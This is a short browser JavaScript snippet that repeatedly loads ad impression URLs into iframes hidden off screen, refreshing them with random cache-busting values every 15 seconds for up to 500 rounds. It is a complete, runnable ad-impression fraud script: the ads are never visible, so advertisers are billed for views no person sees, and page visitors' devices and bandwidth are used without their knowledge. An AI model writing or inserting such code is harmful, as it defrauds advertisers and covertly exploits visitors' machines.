let rounds = 0;
const zones = ['https://imp.adx.example/v?z=1', 'https://imp.adx.example/v?z=2'];
function spin() {
  const holder = document.createElement('div');
  holder.style.cssText = 'position:absolute;left:-9999px;top:-9999px;width:300px;height:250px;overflow:hidden';
  zones.forEach(z => {
    const f = document.createElement('iframe');
    f.width = 300; f.height = 250;
    f.src = z + '&r=' + Math.random();
    holder.appendChild(f);
  });
  document.body.appendChild(holder);
  setTimeout(() => { holder.remove(); if (++rounds < 500) spin(); }, 15000);
}
spin();
